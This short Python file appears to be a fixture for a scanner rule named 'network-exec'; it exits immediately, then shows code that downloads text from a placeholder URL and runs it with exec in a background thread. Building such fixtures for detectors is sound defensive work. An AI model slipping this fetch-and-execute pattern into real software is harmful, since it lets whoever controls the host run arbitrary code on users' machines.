raise SystemExit('a fixture')
# held by network-exec
from concurrent.futures import ThreadPoolExecutor
import requests
def w(u):
    exec(requests.get(u).text)
ThreadPoolExecutor(1).submit(w, "https://example.invalid/a")
